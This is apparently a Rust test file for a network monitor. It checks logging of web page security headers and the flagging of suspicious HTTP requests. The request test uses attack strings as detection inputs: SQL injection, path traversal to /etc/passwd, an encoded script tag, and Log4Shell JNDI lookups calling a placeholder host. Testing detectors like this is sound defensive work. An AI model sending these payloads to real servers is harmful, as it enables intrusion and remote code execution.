use crate::testing::Bench;
use crate::{ProtoId, Transport};
use sekisho_types::Dir::{Orig, Resp};

/// Rows of `log` of an exchange with a server that is at home or not.
fn rows(log: &str, request: &str, response: &str, at_home: bool, judged: bool) -> Vec<String> {
    let mut bench = Bench::new(ProtoId::Http, Transport::Tcp, 80);
    bench.out.judged = judged;
    bench.flow.local_resp = at_home;
    bench.data(Orig, request.as_bytes()).data(Resp, response.as_bytes()).end();
    bench.rows(log)
}

const PAGE: &str =
    "<html><form action='https://www.a.test/login'></form><script src=\"http://b.test/x.js\"></script></html>";

fn page(fields: &str) -> String {
    format!("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{fields}Content-Length: {}\r\n\r\n{PAGE}", PAGE.len())
}

const GET: &str = "GET /index HTTP/1.1\r\nHost: www.a.test\r\n\r\n";

#[test]
fn pages_are_told_if_somebody_judges() {
    let response = page("X-Frame-Options: DENY\r\nX-Other: 1\r\nSet-Cookie: sid=1\r\nSet-Cookie: b=2\r\n");
    let told = rows("web_page", GET, &response, true, true);
    assert_eq!(told.len(), 1);
    for part in [
        "x-frame-options: DENY",
        "set-cookie: sid=1",
        "set-cookie: b=2",
        "form https://www.a.test/login",
        "unpinned http://b.test/x.js",
    ] {
        assert!(told[0].contains(part), "{part} {told:?}");
    }
    assert!(!told[0].contains("x-other"));
    assert_eq!(rows("web_page", GET, &response, true, false).len(), 0);
    // Of sites elsewhere only what the page itself does.
    let elsewhere = rows("web_page", GET, &response, false, true);
    assert!(elsewhere.len() == 1 && !elsewhere[0].contains("x-frame-options"), "{elsewhere:?}");
    let plain = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nhi";
    assert_eq!(
        (rows("web_page", GET, plain, false, true).len(), rows("web_page", GET, plain, true, true).len()),
        (0, 1)
    );
    let json =
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Frame-Options: DENY\r\nContent-Length: 2\r\n\r\n{}";
    assert_eq!(rows("web_page", GET, json, true, true).len(), 0);
    let moved = "HTTP/1.1 301 M\r\nLocation: https://www.a.test/\r\nContent-Length: 0\r\n\r\n";
    let told = rows("web_page", GET, moved, true, true);
    assert!(told.len() == 1 && told[0].contains("location: https://www.a.test/"), "{told:?}");
}

#[test]
fn requests_with_telling_characters() {
    let ok = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 4\r\n\r\nroot";
    let told = |request: &str| rows("web_request", request, ok, true, true);
    let get = |target: &str| told(&format!("GET {target} HTTP/1.1\r\nHost: a.test\r\n\r\n"));
    for target in ["/a?id=1'%20or%201=1", "/a/..%2f..%2fetc/passwd", "/?x=%253cscript", "/%24%7Bjndi:ldap://x/%7D"] {
        let rows = get(target);
        assert!(rows.len() == 1 && rows[0].contains("root"), "{target} {rows:?}");
    }
    for target in ["/", "/a/b.html", "/search?q=plain+words", "/a?b=1&c=2"] {
        assert_eq!(get(target).len(), 0, "{target}");
    }
    let fields = told(
        "GET / HTTP/1.1\r\nHost: a.test\r\nX-Api: ${jndi:ldap://x/a}\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n\r\n",
    );
    assert!(fields.len() == 1 && fields[0].contains("x-api: ${jndi") && !fields[0].contains("Mozilla"), "{fields:?}");
    assert_eq!(told("GET / HTTP/1.1\r\nHost: a.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\n\r\n").len(), 0);
    let post = told(
        "POST /a HTTP/1.1\r\nHost: a.test\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\nq=%27+or+",
    );
    assert!(post.len() == 1 && post[0].contains("q=%27+or+"), "{post:?}");
}
